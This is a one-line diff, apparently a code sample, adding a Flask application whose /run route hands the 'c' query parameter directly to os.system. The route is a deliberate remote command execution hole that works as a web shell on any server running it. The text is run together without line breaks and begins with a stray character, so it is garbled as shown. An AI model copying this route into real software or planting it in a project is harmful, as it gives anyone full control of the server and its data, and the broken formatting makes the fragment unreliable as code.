@@ -1,0 +1,1 @@
+0from flask import Flask, requestimport osapp = Flask(__name__)@app.route('/run')def run():    os.system(request.args['c'])
